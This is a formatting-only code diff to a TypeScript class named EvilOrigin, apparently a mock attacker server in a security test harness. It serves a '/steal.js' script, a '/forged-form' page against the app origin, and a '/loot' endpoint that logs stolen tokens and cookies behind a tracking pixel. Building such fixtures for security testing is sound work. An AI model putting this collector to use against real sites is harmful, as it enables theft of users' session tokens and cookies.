@@ -97,12 +97,16 @@ export class EvilOrigin {
     if (req.method !== 'GET') {
       res.writeHead(405, { ...NOSNIFF, 'Content-Type': 'text/plain' }).end('GET only');
     } else if (url.pathname === '/steal.js') {
-      res.writeHead(200, { ...NOSNIFF, 'Content-Type': 'text/javascript; charset=utf-8', 'Cache-Control': 'no-store' }).end(stealScript(`http://${host}`));
+      res
+        .writeHead(200, { ...NOSNIFF, 'Content-Type': 'text/javascript; charset=utf-8', 'Cache-Control': 'no-store' })
+        .end(stealScript(`http://${host}`));
     } else if (url.pathname === '/loot') {
       this.#record(url.searchParams);
       res.writeHead(200, { ...NOSNIFF, 'Content-Type': 'image/gif', 'Cache-Control': 'no-store' }).end(PIXEL);
     } else if (url.pathname === '/forged-form') {
-      res.writeHead(200, { ...NOSNIFF, 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' }).end(forgedFormPage(appOrigin));
+      res
+        .writeHead(200, { ...NOSNIFF, 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' })
+        .end(forgedFormPage(appOrigin));
     } else {
       res.writeHead(404, { ...NOSNIFF, 'Content-Type': 'text/plain' }).end('not found');
     }
@@ -111,7 +115,12 @@ export class EvilOrigin {
   #record(query: URLSearchParams): void {
     const field = (name: string) => (query.get(name) ?? '').slice(0, FIELD_LIMIT);
     const status = Number.parseInt(field('status'), 10);
-    this.#loot.push({ at: this.#now(), token: field('token'), cookie: field('cookie'), status: Number.isFinite(status) ? status : 0 });
+    this.#loot.push({
+      at: this.#now(),
+      token: field('token'),
+      cookie: field('cookie'),
+      status: Number.isFinite(status) ? status : 0,
+    });
     if (this.#loot.length > LOOT_LIMIT) this.#loot.shift();
   }
 }
